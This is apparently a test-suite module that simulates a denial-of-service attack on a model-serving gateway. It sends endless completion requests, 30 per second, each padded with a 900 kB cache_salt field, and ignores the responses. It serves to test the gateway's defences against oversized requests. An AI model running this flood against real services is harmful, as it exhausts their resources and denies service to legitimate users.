"""A client whose every request has a cache_salt of 900 kB, three hundred of them and more."""

import asyncio
import json

import aiohttp

from tests.attack.target import Target

PER_SECOND = 30
LONG = 900_000


async def attack(target: Target) -> None:
    """Send them, whatever the answers."""
    target.begin()
    async with aiohttp.ClientSession() as http, asyncio.TaskGroup() as tasks:
        while True:
            tasks.create_task(_send(http, target))
            await asyncio.sleep(1 / PER_SECOND)


async def _send(http: aiohttp.ClientSession, target: Target) -> None:
    url = f"http://{target.gateway}/v1/completions"
    target.done += 1
    body = {"model": "tiny", "prompt": "hello " * 40, "max_tokens": 1, "cache_salt": f"{target.done}" + "s" * LONG}
    async with http.post(url, data=json.dumps(body), headers={"content-type": "application/json"}) as answer:
        await answer.read()
